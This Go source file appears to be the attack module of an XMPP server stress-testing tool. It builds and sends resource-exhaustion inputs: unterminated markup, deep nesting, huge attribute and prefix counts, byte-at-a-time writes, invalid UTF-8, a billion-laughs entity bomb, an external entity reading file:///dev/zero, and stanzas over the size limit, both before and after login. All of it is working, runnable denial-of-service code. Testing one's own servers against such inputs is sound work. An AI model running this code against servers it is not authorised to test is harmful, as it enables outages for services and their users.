package hostile

import (
	"fmt"
	"strings"
	"time"

	"canto/bench/xmpp"
)

// A markup is input that is made of pieces, until the server has enough.
type markup struct {
	head  string
	piece func(b []byte, n int) []byte // appends the n-th piece
	tail  string
	bytes bool // one byte at a time
}

func repeat(s string) func([]byte, int) []byte {
	return func(b []byte, _ int) []byte { return append(b, s...) }
}

// beforeLogin are the inputs that an attacker sends after the stream header and before its login, one a
// connection: names, values, attributes, prefixes, depth, children, text, references, comments, processing
// instructions and bytes that are no UTF-8, each without an end. Some come one byte at a time.
func beforeLogin() []markup {
	return []markup{
		// a name without an end
		{"<auth", repeat("xxxxxxxxxxxxxxxx"), "", false},
		// a value without an end
		{"<auth a='", repeat("xxxxxxxxxxxxxxxx"), "", false},
		// attributes
		{"<auth ", func(b []byte, n int) []byte { return fmt.Appendf(b, "a%d='' ", n) }, "", false},
		// prefixes
		{"<auth ", func(b []byte, n int) []byte { return fmt.Appendf(b, "xmlns:p%d='u:%d' ", n, n) }, "", false},
		// depth
		{"", repeat("<a>"), "", false},
		// depth, each with a prefix
		{"", func(b []byte, n int) []byte { return fmt.Appendf(b, "<p%d:a xmlns:p%d='u'>", n, n) }, "", false},
		// children
		{"<auth>", repeat("<a/>"), "", false},
		// children with attributes
		{"<auth>", repeat("<a b=''/>"), "", false},
		// text without an end
		{"<auth xmlns='" + xmpp.NSSASL + "' mechanism='PLAIN'>", repeat("eHh4eHh4eHh4eHh4"), "", false},
		// references
		{"<auth xmlns='" + xmpp.NSSASL + "' mechanism='PLAIN'>", repeat("&#x41;&amp;"), "", false},
		// a section without an end
		{"<auth xmlns='" + xmpp.NSSASL + "' mechanism='PLAIN'><![CDATA[", repeat("]]]]]]]]&&<<"), "", false},
		// a comment
		{"<!--", repeat("- - - "), "", false},
		// an instruction
		{"<?a ", repeat("? ? ? "), "", false},
		// an entity
		{"<auth xmlns='" + xmpp.NSSASL + "' mechanism='PLAIN'>", repeat("&lol;"), "", false},
		// elements
		{"", repeat("<a xmlns='u'/>"), "", false},
		// blanks
		{"", repeat(strings.Repeat(" ", 64)), "", false},
		// a name, a byte at a time
		{"<auth", repeat("xxxxxxxxxxxxxxxx"), "", true},
		// a value, a byte at a time
		{"<auth a='", repeat("xxxxxxxxxxxxxxxx"), "", true},
		// text, a byte at a time
		{"<auth xmlns='" + xmpp.NSSASL + "' mechanism='PLAIN'>", repeat("eHh4eHh4eHh4eHh4"), "", true},
		// bytes that are no text
		{"<auth>", repeat("\xed\xa0\x80\xff"), "", false},
	}
}

// insteadOfHeader are inputs in place of a header.
func insteadOfHeader(header string) []markup {
	bomb := "<!DOCTYPE l [<!ENTITY a0 'ha'>"
	for n := 1; n < 30; n++ {
		bomb += fmt.Sprintf("<!ENTITY a%d '&a%d;&a%d;'>", n, n-1, n-1)
	}
	root := strings.TrimSuffix(header, ">")
	return []markup{
		// a document type
		{"<?xml version='1.0'?>" + bomb + "]><l>&a29;", repeat("&a29;"), "", false},
		// an external entity
		{"<?xml version='1.0'?><!DOCTYPE l SYSTEM 'file:///dev/zero'><l>", repeat("&x;"), "", false},
		// a header with attributes
		{root, func(b []byte, n int) []byte { return fmt.Appendf(b, " a%d=''", n) }, "", false},
		// a header with prefixes
		{root, func(b []byte, n int) []byte { return fmt.Appendf(b, " xmlns:q%d='u:%d'", n, n) }, "", false},
		// a header without an end
		{root + " a='", repeat("xxxxxxxxxxxxxxxx"), "", false},
		// a header, a byte at a time
		{root + " a='", repeat("xxxxxxxxxxxxxxxx"), "", true},
	}
}

// costlyPayloads are payloads of messages that cost much for their size, and that, at some 48 KiB,
// servers commonly accept after login.
func costlyPayloads() []markup {
	nest := strings.Repeat("<a>", 50) + strings.Repeat("</a>", 50)
	attrs := "<a"
	for n := range 50 {
		attrs += fmt.Sprintf(" a%d=''", n)
	}
	attrs += "/>"
	prefixes := "<a"
	for n := range 8 {
		prefixes += fmt.Sprintf(" xmlns:p%d='u:%d'", n, n)
	}
	prefixes += "><p7:b/></a>"
	return []markup{
		{"<body>", repeat("But soft, what light"), "</body>", false}, // text
		{"<body>", repeat("&amp;&lt;&#38;"), "</body>", false},       // references
		{"<body>", repeat("<![CDATA[]]>"), "</body>", false},         // sections
		{"<x xmlns='u'>", repeat("<a/>"), "</x>", false},             // children
		{"<x xmlns='u'>", repeat("<a b=''/>"), "</x>", false},        // children with attributes
		{"<x xmlns='u'>", repeat(nest), "</x>", false},               // depth
		{"<x xmlns='u'>", repeat(attrs), "</x>", false},              // attributes
		{"<x xmlns='u'>", repeat(prefixes), "</x>", false},           // prefixes
	}
}

// badXML is, for half of the lines, markup before login; for the other half, after it.
func badXML(l *attacker, round int) error {
	n := l.i/2 + round
	if l.i%2 == 1 {
		return l.badStanzas(n)
	}
	a := l.a
	addr := a.cfg.Addr
	if !addr.IsValid() {
		addr = a.cfg.Direct
	}
	s, err := l.connect(addr)
	if err != nil {
		return err
	}
	defer s.Close()
	if addr != a.cfg.Addr {
		if err := s.secure(); err != nil {
			return err
		}
	}
	header := a.header()
	list, other := beforeLogin(), insteadOfHeader(header)
	m := list[n%len(list)]
	if n%5 == 4 {
		m, header = other[n/5%len(other)], ""
	}
	if err := s.send(header); err != nil {
		return err
	}
	return s.sendEndless(&m, 256<<10)
}

// sendEndless writes m up to so many bytes, unless the server ends it before.
func (w *transport) sendEndless(m *markup, most int) error {
	end := w.drain()
	b := []byte(m.head)
	chunk := 4 << 10 // in an attempt
	if m.bytes {
		chunk, most = 512, most/4
	}
	for n, done := 0, 0; done < most; {
		for ; len(b) < chunk; n++ {
			b = m.piece(b, n)
		}
		if err := w.a.attempt(1); err != nil {
			return err
		}
		if err := w.writeAll(b, m.bytes); err != nil {
			return err
		}
		select {
		case err := <-end:
			return err
		default:
		}
		done += len(b)
		b = b[:0]
	}
	if err := w.send(m.tail); err != nil {
		return err
	}
	// The server accepts the input, or has not answered yet.
	select {
	case err := <-end:
		return err
	case <-time.After(time.Second):
		return errDone
	}
}

func (w *transport) writeAll(b []byte, bytes bool) error {
	if !bytes {
		_, err := w.top.Write(b)
		return err
	}
	for i := range b {
		if _, err := w.top.Write(b[i : i+1]); err != nil {
			return err
		}
	}
	return nil
}

// badStanzas is one session of the attack. It logs in; sends 16 stanzas with costly payloads,
// most of them nearly as large as the server allows, every eighth small but written in single
// bytes; and then sends a stanza over the limit, for which it awaits the server's answer for five
// seconds. n chooses the payload that comes first. It returns the error with which the server
// ended the stream, errDone if the server did not, or the error of a login, a write or the
// attack's end.
func (l *attacker) badStanzas(n int) error {
	s, err := l.logIn(l.a.cfg.TLS)
	if err != nil {
		return err
	}
	defer s.Close()
	list := costlyPayloads()
	end := s.drain()
	size := min(s.limit*7/8, 48<<10) // more of children would be too many for most
	for k := range 16 {
		m := list[(n+k)%len(list)]
		single, size, weight := false, size, 1
		if k%8 == 7 {
			single, size, weight = true, 1<<10, 16
		}
		b := s.stanza(&m, size)
		if err := s.a.attempt(weight); err != nil {
			return err
		}
		if err := s.writeAll(b, single); err != nil {
			return err
		}
		select {
		case err := <-end:
			return err
		default:
		}
	}
	m := list[n%len(list)]
	if err := s.a.attempt(1); err != nil {
		return err
	}
	if err := s.writeAll(s.stanza(&m, s.limit+64<<10), false); err != nil {
		return err
	}
	select {
	case err := <-end:
		return err
	case <-time.After(5 * time.Second):
		return errDone
	}
}

// stanza is a message to oneself of at most so many bytes.
func (s *session) stanza(m *markup, size int) []byte {
	b := append(make([]byte, 0, size+1<<10), "<message type='chat' to='"+s.jid+"'>"+m.head...)
	for n := 0; len(b) < size; n++ {
		b = m.piece(b, n)
	}
	return append(b, m.tail+"</message>"...)
}
